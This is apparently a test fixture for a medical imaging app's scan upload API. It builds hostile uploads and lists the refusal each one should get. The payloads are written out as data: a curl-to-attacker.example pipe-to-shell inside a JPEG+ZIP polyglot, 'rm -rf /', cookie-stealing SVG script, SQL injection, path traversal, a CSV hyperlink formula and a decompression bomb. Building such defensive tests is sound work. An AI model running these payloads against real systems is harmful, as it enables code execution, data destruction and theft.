// The hostile single-upload corpus, made at test time from the read-only chest X-ray corpus, sharp, Buffer code and
// DCMTK (no binary of unknown origin in git). Each case says what a client sends to POST /api/v1/patients/{id}/scans
// and what must come back: the status, words of the message, and whether a scan is stored.
import { randomBytes } from "node:crypto";
import { writeFile } from "node:fs/promises";
import sharp from "sharp";
import { buildZip } from "@/lib/bulk/zip-writer";
import { readCorpus } from "@/tests/support/image/corpus";
import type { FixtureDir } from "@/tests/support/image/dcmtk";
import { pngWithClaimedSize } from "@/tests/support/image/png";

export interface UploadCase {
  name: string;
  /** The file part; null sends no file field at all. */
  file: { bytes: Buffer; fileName: string; type?: string } | null;
  fields?: Record<string, string>;
  /** Who calls: a clinician's token (default), none, or one that is not a token. */
  auth?: "clinician" | "none" | "garbage";
  /** The patient in the path: the campaign's patient (default), an unknown uuid, or not a uuid. */
  patient?: "known" | "unknown" | "not-a-uuid";
  /** The body is sent as this raw content type instead of multipart (the file bytes as body). */
  rawBody?: string;
  expect: { status: number; message: RegExp; stored: boolean };
}

/** Seeded noise, so a failing case can be reproduced. */
function noise(n: number, max: number, seed: number): Uint16Array {
  let s = seed;
  return Uint16Array.from({ length: n }, () => {
    s = (Math.imul(s, 1103515245) + 12345) >>> 0;
    return (s >>> 16) % (max + 1);
  });
}

const png16 = (values: Uint16Array, width: number, height: number) =>
  sharp(Buffer.from(values.buffer, values.byteOffset, values.byteLength), {
    raw: { width, height, channels: 1, premultiplied: false },
  })
    .toColourspace("grey16")
    .png()
    .toBuffer();

const grey = (width: number, height: number, value: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: value, g: value, b: value } } }).toColourspace("b-w");

/** A colourful picture: red, green and blue bands over a gradient, as a holiday photo would be. */
async function colourPhoto(): Promise<Buffer> {
  const width = 640;
  const height = 480;
  const data = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      const band = Math.floor((x / width) * 3);
      data[i] = band === 0 ? 220 : (y * 3) % 256;
      data[i + 1] = band === 1 ? 200 : (x * 2) % 256;
      data[i + 2] = band === 2 ? 230 : 40;
    }
  }
  return sharp(data, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 90 })
    .toBuffer();
}

/** A JPEG whose frame header (SOF0) claims another size; the scan data stays that of the real film. */
function jpegClaiming(film: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(film);
  for (let i = 2; i < out.length - 9; i++) {
    if (out[i] === 0xff && out[i + 1] !== undefined && out[i + 1]! >= 0xc0 && out[i + 1]! <= 0xc2) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
  }
  throw new Error("no SOF marker in the film");
}

const DX_PIXEL_MODULE = (rows: number, columns: number, frames?: number) => [
  "(0008,0016) UI =DigitalXRayImageStorageForPresentation",
  "(0028,0002) US 1",
  "(0028,0004) CS [MONOCHROME2]",
  ...(frames ? [`(0028,0008) IS [${frames}]`] : []),
  `(0028,0010) US ${rows}`,
  `(0028,0011) US ${columns}`,
  "(0028,0100) US 8",
  "(0028,0101) US 8",
  "(0028,0102) US 7",
  "(0028,0103) US 0",
];

const gradient = (n: number) => new Uint8Array(n).map((_, i) => (i * 7) % 251);

/** Films used by cases that are stored: each distinct, so none is refused as a duplicate of another. */
export const STORED_FILMS = ["coh00011", "coh00012", "coh00013", "coh00014", "coh00015", "coh00016", "coh00017"];

export async function buildUploadCorpus(fx: FixtureDir): Promise<UploadCase[]> {
  const film = await readCorpus("nih00013");
  const stored = Object.fromEntries(
    await Promise.all(STORED_FILMS.map(async (id) => [id, await readCorpus(id)] as const)),
  ) as Record<string, Buffer>;
  const filmPng = await sharp(film).png().toBuffer();
  await writeFile(fx.file("film.jpg"), film);
  await writeFile(fx.file("ok.jpg"), stored.coh00011!);
  await fx.img2dcm(fx.file("film.jpg"), "film.dcm");
  await fx.img2dcm(fx.file("ok.jpg"), "ok.dcm", { "0008,0022": "20250314" });
  const dicom = await fx.read("film.dcm");
  const datedDicom = async (tag: string, value: string) => {
    const name = `date-${tag.replace(",", "")}-${value}.dcm`;
    await fx.img2dcm(fx.file("film.jpg"), name, { [tag]: value });
    return fx.read(name);
  };
  const withPreamble = (source: Buffer, preamble: Buffer) => {
    const out = Buffer.from(source);
    out.fill(0, 0, 128);
    preamble.copy(out, 0, 0, Math.min(128, preamble.length));
    return out;
  };
  const mzDicom = async (id: string, header: Buffer) => {
    await writeFile(fx.file(`${id}.jpg`), stored[id]!);
    await fx.img2dcm(fx.file(`${id}.jpg`), `${id}.dcm`, { "0008,0022": "20250315" });
    return withPreamble(await fx.read(`${id}.dcm`), header);
  };
  await fx.dump2dcm("multi.dcm", DX_PIXEL_MODULE(64, 64, 3), gradient(64 * 64 * 3));
  await fx.dump2dcm("nopixels.dcm", DX_PIXEL_MODULE(64, 64), undefined);
  await fx.dump2dcm("rows0.dcm", DX_PIXEL_MODULE(0, 64), gradient(64 * 64));
  await fx.dump2dcm("cols0.dcm", DX_PIXEL_MODULE(64, 0), gradient(64 * 64));
  await fx.dump2dcm("short-pixels.dcm", DX_PIXEL_MODULE(512, 512), gradient(1000));
  await fx.dump2dcm("huge-rows.dcm", DX_PIXEL_MODULE(65535, 65535), gradient(4096));
  await fx.dump2dcm(
    "rgb.dcm",
    [
      "(0008,0016) UI =DigitalXRayImageStorageForPresentation",
      "(0028,0002) US 3",
      "(0028,0004) CS [RGB]",
      "(0028,0006) US 0",
      "(0028,0010) US 64",
      "(0028,0011) US 64",
      "(0028,0100) US 8",
      "(0028,0101) US 8",
      "(0028,0102) US 7",
      "(0028,0103) US 0",
    ],
    // Smooth red and green ramps on a blue ground: a colour picture, not noise.
    new Uint8Array(64 * 64 * 3).map((_, i) => {
      const pixel = Math.floor(i / 3);
      const [x, y] = [pixel % 64, Math.floor(pixel / 64)];
      return [x * 4, y * 4, 200][i % 3]!;
    }),
  );
  // dcmodify rewrites the meta header itself, so the transfer syntax is patched in place (same length): a UID that
  // names no transfer syntax at all.
  const jpegBaseline = Buffer.from("1.2.840.10008.1.2.4.50", "latin1");
  const at = dicom.indexOf(jpegBaseline);
  if (at < 0) throw new Error("img2dcm wrote no JPEG Baseline transfer syntax");
  const unknownSyntax = Buffer.from(dicom);
  Buffer.from("1.2.840.10008.1.2.4.99", "latin1").copy(unknownSyntax, at);
  const truncated = (b: Buffer, share: number) => b.subarray(0, Math.floor(b.length * share));
  const text = (s: string) => Buffer.from(s, "utf8");
  const svgScript =
    '<svg xmlns="http://www.w3.org/2000/svg" width="512" height="512"><script>alert(document.cookie)</script>' +
    '<rect width="512" height="512"/></svg>';
  const bigJpeg = (mb: number) => {
    const out = Buffer.alloc(mb * 1024 * 1024);
    film.copy(out);
    return out;
  };
  const polyglot = Buffer.concat([
    stored.coh00012!,
    buildZip([{ name: "payload.sh", data: text("#!/bin/sh\ncurl http://attacker.example/x | sh\n") }]),
  ]);
  const minimalGif = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
  const tinyWebp = await sharp({ create: { width: 64, height: 64, channels: 3, background: "#888" } })
    .webp()
    .toBuffer();
  const tinyTiff = await sharp(film).tiff().toBuffer();
  const tinyAvif = await sharp({ create: { width: 64, height: 64, channels: 3, background: "#888" } })
    .avif()
    .toBuffer();
  const bmp = Buffer.alloc(70);
  bmp.write("BM", 0, "latin1");
  bmp.writeUInt32LE(70, 2);

  const refused = (status: number, message: RegExp) => ({ status, message, stored: false });
  const notImage = (what: RegExp) => refused(415, new RegExp(`The uploaded file is ${what.source}, not a chest X-ray`));
  const accepted = { status: 201, message: /^$/, stored: true };
  const f = (bytes: Buffer, fileName: string) => ({ bytes, fileName });

  const cases: UploadCase[] = [
    // ---- not images at all: judged by content, whatever the name says ----
    { name: "empty file", file: f(Buffer.alloc(0), "empty.jpg"), expect: refused(400, /empty/i) },
    {
      name: "text renamed .png",
      file: f(text("Patient: Jane Doe\nFindings: none\n"), "notes.png"),
      expect: notImage(/a text file/),
    },
    {
      name: "text renamed .dcm",
      file: f(text("DICOM? no.\n".repeat(40)), "scan.dcm"),
      expect: notImage(/a text file/),
    },
    { name: "SVG with script", file: f(text(svgScript), "xray.svg"), expect: notImage(/an SVG drawing/) },
    {
      name: "SVG with XML prolog renamed .jpg",
      file: f(text(`<?xml version="1.0"?>${svgScript}`), "x.jpg"),
      expect: notImage(/an SVG drawing/),
    },
    {
      name: "HTML with script",
      file: f(text("<!DOCTYPE html><html><script>fetch('/api/v1/patients')</script></html>"), "x.html"),
      expect: notImage(/a web page \(HTML\)/),
    },
    {
      name: "HTML renamed .jpg",
      file: f(text("<html><body onload=alert(1)>x</body></html>"), "x.jpg"),
      expect: notImage(/a web page \(HTML\)/),
    },
    {
      name: "XML document",
      file: f(text('<?xml version="1.0"?><root><patient>x</patient></root>'), "x.xml"),
      expect: notImage(/an XML document/),
    },
    {
      name: "PDF",
      file: f(
        text("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"),
        "report.pdf",
      ),
      expect: notImage(/a PDF document/),
    },
    { name: "GIF", file: f(minimalGif, "x.gif"), expect: notImage(/a GIF image/) },
    { name: "GIF renamed .png", file: f(minimalGif, "x.png"), expect: notImage(/a GIF image/) },
    { name: "WebP", file: f(tinyWebp, "x.webp"), expect: notImage(/a WebP image/) },
    { name: "TIFF", file: f(tinyTiff, "x.tiff"), expect: notImage(/a TIFF image/) },
    { name: "BMP", file: f(bmp, "x.bmp"), expect: notImage(/a BMP image/) },
    { name: "AVIF", file: f(tinyAvif, "x.avif"), expect: notImage(/an HEIC\/AVIF image or a video/) },
    {
      name: "ZIP as a single upload",
      file: f(buildZip([{ name: "a.jpg", data: film }]), "scans.jpg"),
      expect: notImage(/a ZIP archive \(or an Office document\)/),
    },
    {
      name: "Windows program",
      file: f(Buffer.concat([text("MZ\x90\x00"), randomBytes(2000)]), "x.jpg"),
      expect: notImage(/a Windows program/),
    },
    {
      name: "Linux program",
      file: f(Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), randomBytes(2000)]), "x.dcm"),
      expect: notImage(/a Linux program/),
    },
    { name: "shell script", file: f(text("#!/bin/sh\nrm -rf /\n"), "x.png"), expect: notImage(/a text file/) },
    { name: "JSON", file: f(text('{"__proto__":{"admin":true}}'), "x.json"), expect: notImage(/a text file/) },
    {
      name: "random bytes",
      file: f(Buffer.from(noise(4096, 255, 99)), "x.jpg"),
      expect: notImage(/a file of an unknown type/),
    },
    { name: "4 kB of zeros", file: f(Buffer.alloc(4096), "zeros.dcm"), expect: notImage(/a file of an unknown type/) },
    {
      name: "CSV with formula",
      file: f(text('=HYPERLINK("http://attacker.example","click")\n'), "x.csv"),
      expect: notImage(/a text file/),
    },

    // ---- damaged images ----
    {
      name: "JPEG truncated at 60%",
      file: f(truncated(film, 0.6), "t60.jpg"),
      expect: refused(400, /damaged or incomplete/),
    },
    {
      name: "JPEG truncated at 5%",
      file: f(truncated(film, 0.05), "t5.jpg"),
      expect: refused(400, /damaged|incomplete/),
    },
    {
      name: "JPEG magic only",
      file: f(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), "magic.jpg"),
      expect: refused(400, /damaged|incomplete|too small|size/),
    },
    {
      name: "PNG truncated at 50%",
      file: f(truncated(filmPng, 0.5), "t50.png"),
      expect: refused(400, /damaged or incomplete/),
    },
    { name: "PNG magic only", file: f(filmPng.subarray(0, 8), "magic.png"), expect: refused(400, /damaged|size/) },
    {
      name: "DICOM truncated at 40%",
      file: f(truncated(dicom, 0.4), "t40.dcm"),
      expect: refused(400, /damaged|incomplete|cut off|truncated/i),
    },
    { name: "DICOM preamble and DICM only", file: f(dicom.subarray(0, 132), "hdr.dcm"), expect: refused(400, /./) },

    // ---- images that are not usable X-rays ----
    {
      name: "PNG claiming 60000x60000",
      file: f(pngWithClaimedSize(60000, 60000), "huge.png"),
      expect: refused(413, /60000 x 60000 pixels \(3600 megapixels\); the limit is 50 megapixels/),
    },
    {
      name: "JPEG claiming 65000x65000",
      file: f(jpegClaiming(film, 65000, 65000), "huge.jpg"),
      expect: refused(413, /65000 x 65000 pixels/),
    },
    {
      name: "PNG decompression bomb (52.5 megapixels of one grey)",
      file: f(await grey(7500, 7000, 0).png({ compressionLevel: 9 }).toBuffer(), "bomb.png"),
      expect: refused(413, /7500 x 7000 pixels \(52\.5 megapixels\)/),
    },
    {
      name: "16-bit noise",
      file: f(await png16(noise(512 * 512, 65535, 12345), 512, 512), "noise16.png"),
      expect: refused(400, /random noise/),
    },
    {
      name: "12-bit noise in 16 bits",
      file: f(await png16(noise(640 * 480, 4095, 777), 640, 480), "noise12.png"),
      expect: refused(400, /random noise/),
    },
    {
      name: "8-bit noise JPEG",
      file: f(
        await sharp(Buffer.from(noise(512 * 512, 255, 4242)), { raw: { width: 512, height: 512, channels: 1 } })
          .jpeg()
          .toBuffer(),
        "noise8.jpg",
      ),
      expect: refused(400, /random noise/),
    },
    {
      name: "all-black picture",
      file: f(await grey(512, 512, 0).png().toBuffer(), "black.png"),
      expect: refused(400, /a single flat shade with no visible picture/),
    },
    {
      name: "all-white picture",
      file: f(await grey(512, 512, 255).jpeg().toBuffer(), "white.jpg"),
      expect: refused(400, /a single flat shade with no visible picture/),
    },
    { name: "colour photo", file: f(await colourPhoto(), "holiday.jpg"), expect: refused(400, /colour picture/) },
    {
      name: "8x8 image",
      file: f(await sharp(film).resize(8, 8).jpeg().toBuffer(), "tiny.jpg"),
      expect: refused(400, /only 8 x 8 pixels; an X-ray needs at least 32 pixels on each side/),
    },

    // ---- DICOM that is hostile or unusable ----
    {
      name: "DICOM multi-frame",
      file: f(await fx.read("multi.dcm"), "multi.dcm"),
      expect: refused(400, /holds 3 images \(frames\)/),
    },
    {
      name: "DICOM without pixel data",
      file: f(await fx.read("nopixels.dcm"), "nopixels.dcm"),
      expect: refused(400, /no image|pixel data/i),
    },
    {
      name: "DICOM Rows 0",
      file: f(await fx.read("rows0.dcm"), "rows0.dcm"),
      expect: refused(400, /rows|size|damaged/i),
    },
    {
      name: "DICOM Columns 0",
      file: f(await fx.read("cols0.dcm"), "cols0.dcm"),
      expect: refused(400, /columns|size|damaged/i),
    },
    {
      name: "DICOM Rows/Columns larger than its pixel data",
      file: f(await fx.read("short-pixels.dcm"), "short.dcm"),
      expect: refused(400, /damaged|incomplete|pixel data|shorter/i),
    },
    {
      name: "DICOM claiming 65535x65535",
      file: f(await fx.read("huge-rows.dcm"), "huge.dcm"),
      expect: refused(413, /65535 x 65535 pixels/),
    },
    { name: "DICOM RGB colour", file: f(await fx.read("rgb.dcm"), "rgb.dcm"), expect: refused(400, /colour picture/) },
    {
      name: "DICOM with an unknown transfer syntax",
      file: f(unknownSyntax, "syntax.dcm"),
      expect: refused(400, /encoded as unknown \(1\.2\.840\.10008\.1\.2\.4\.99\), which Radtrack cannot read/),
    },
    // ---- the four bad DICOM dates, in each date tag (no date given on the form) ----
    {
      name: "DICOM AcquisitionDate 99991231",
      file: f(await datedDicom("0008,0022", "99991231"), "d1.dcm"),
      expect: refused(
        400,
        /The DICOM AcquisitionDate "99991231" cannot be used: The acquisition date cannot be in the future/,
      ),
    },
    {
      name: "DICOM AcquisitionDate 00010101",
      file: f(await datedDicom("0008,0022", "00010101"), "d2.dcm"),
      expect: refused(
        400,
        /The DICOM AcquisitionDate "00010101" cannot be used: The acquisition date cannot be before 1895/,
      ),
    },
    {
      name: "DICOM AcquisitionDate 18000101",
      file: f(await datedDicom("0008,0022", "18000101"), "d3.dcm"),
      expect: refused(
        400,
        /The DICOM AcquisitionDate "18000101" cannot be used: The acquisition date cannot be before 1895/,
      ),
    },
    {
      name: "DICOM AcquisitionDate 00000101",
      file: f(await datedDicom("0008,0022", "00000101"), "d4.dcm"),
      expect: refused(
        400,
        /The DICOM AcquisitionDate "00000101" cannot be used: The acquisition date cannot be before 1895/,
      ),
    },
    {
      name: "DICOM StudyDate 99991231",
      file: f(await datedDicom("0008,0020", "99991231"), "d5.dcm"),
      expect: refused(400, /The DICOM StudyDate "99991231" cannot be used/),
    },
    {
      name: "DICOM ContentDate 00000101",
      file: f(await datedDicom("0008,0023", "00000101"), "d6.dcm"),
      expect: refused(400, /The DICOM ContentDate "00000101" cannot be used/),
    },
    {
      name: "DICOM AcquisitionDate 20250231",
      file: f(await datedDicom("0008,0022", "20250231"), "d7.dcm"),
      expect: refused(400, /This date does not exist/),
    },

    // ---- hostile form fields with a real film ----
    {
      name: "form date 9999-12-31",
      file: f(stored.coh00013!, "a.jpg"),
      fields: { acquiredAt: "9999-12-31" },
      expect: refused(400, /acquiredAt: The acquisition date cannot be in the future/),
    },
    {
      name: "form date 0000-01-01",
      file: f(stored.coh00013!, "a.jpg"),
      fields: { acquiredAt: "0000-01-01" },
      expect: refused(400, /acquiredAt: The acquisition date cannot be before 1895/),
    },
    {
      name: "form date 1800-01-01",
      file: f(stored.coh00013!, "a.jpg"),
      fields: { acquiredAt: "1800-01-01" },
      expect: refused(400, /acquiredAt: The acquisition date cannot be before 1895/),
    },
    {
      name: "form date as script",
      file: f(stored.coh00013!, "a.jpg"),
      fields: { acquiredAt: "<script>alert(1)</script>" },
      expect: refused(400, /acquiredAt: Use the date format YYYY-MM-DD/),
    },
    {
      name: "form date as SQL",
      file: f(stored.coh00013!, "a.jpg"),
      fields: { acquiredAt: "2024-01-01'; DROP TABLE scans;--" },
      expect: refused(400, /acquiredAt: Use the date format/),
    },
    {
      name: "form time 25:61",
      file: f(stored.coh00013!, "a.jpg"),
      fields: { acquiredAt: "2024-01-01", acquiredTime: "25:61" },
      expect: refused(400, /acquiredTime: Use the time format/),
    },
    {
      name: "form view path traversal",
      file: f(stored.coh00013!, "a.jpg"),
      fields: { view: "../../etc/passwd" },
      expect: refused(400, /view: Choose a listed view/),
    },
    {
      name: "form view HTML",
      file: f(stored.coh00013!, "a.jpg"),
      fields: { view: "<img src=x onerror=alert(1)>" },
      expect: refused(400, /view: Choose a listed view/),
    },
    {
      name: "a good form date overrides a bad DICOM date, with a warning",
      file: f(await datedDicom("0008,0022", "99991231"), "d8.dcm"),
      fields: { acquiredAt: "2024-05-06" },
      expect: accepted,
    },

    // ---- size limits ----
    {
      name: "63 MB through the API",
      file: f(bigJpeg(63), "big.jpg"),
      expect: refused(413, /larger than the limit of 50 MB per scan/),
    },
    {
      name: "51 MB through the API",
      file: f(bigJpeg(51), "big.jpg"),
      expect: refused(413, /larger than the limit of 50 MB per scan/),
    },

    // ---- the request itself ----
    { name: "no token", file: f(stored.coh00014!, "a.jpg"), auth: "none", expect: refused(401, /./) },
    { name: "a token that is not one", file: f(stored.coh00014!, "a.jpg"), auth: "garbage", expect: refused(401, /./) },
    {
      name: "unknown patient",
      file: f(stored.coh00014!, "a.jpg"),
      patient: "unknown",
      expect: refused(404, /This patient does not exist/),
    },
    {
      name: "patient id that is not a uuid",
      file: f(stored.coh00014!, "a.jpg"),
      patient: "not-a-uuid",
      expect: refused(404, /This patient does not exist/),
    },
    {
      name: "no file field",
      file: null,
      fields: { note: "x" },
      expect: refused(400, /Add the image file in the form field "file"/),
    },
    {
      name: "file field as text",
      file: null,
      fields: { file: "/etc/passwd" },
      expect: refused(400, /must be a file upload, not text/),
    },
    {
      name: "raw JPEG body instead of multipart",
      file: f(stored.coh00014!, "a.jpg"),
      rawBody: "image/jpeg",
      expect: refused(415, /multipart\/form-data/),
    },
    {
      name: "JSON body instead of multipart",
      file: f(text('{"file":"x"}'), "a.json"),
      rawBody: "application/json",
      expect: refused(415, /multipart\/form-data/),
    },

    // ---- accepted, and nothing of the upload is served back ----
    { name: "polyglot JPEG+ZIP", file: f(polyglot, "polyglot.jpg"), expect: accepted },
    {
      name: "DICOM with an MZ (Windows program) preamble",
      file: f(await mzDicom("coh00015", text("MZ\x90\x00This program cannot be run in DOS mode.")), "mz.dcm"),
      expect: accepted,
    },
    {
      name: "DICOM with an ELF preamble",
      file: f(
        await mzDicom(
          "coh00016",
          Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), text("/lib64/ld-linux-x86-64.so.2")]),
        ),
        "elf.dcm",
      ),
      expect: accepted,
    },
    {
      name: "file name with path traversal",
      file: f(stored.coh00017!, "../../../../tmp/radtrack-campaign-escape.jpg"),
      expect: accepted,
    },
    { name: "a real DICOM film (control)", file: f(await fx.read("ok.dcm"), "ok.dcm"), expect: accepted },
    {
      name: "duplicate of a stored film",
      file: f(polyglot, "again.jpg"),
      expect: refused(409, /already stored for this patient/),
    },
  ];
  return cases;
}
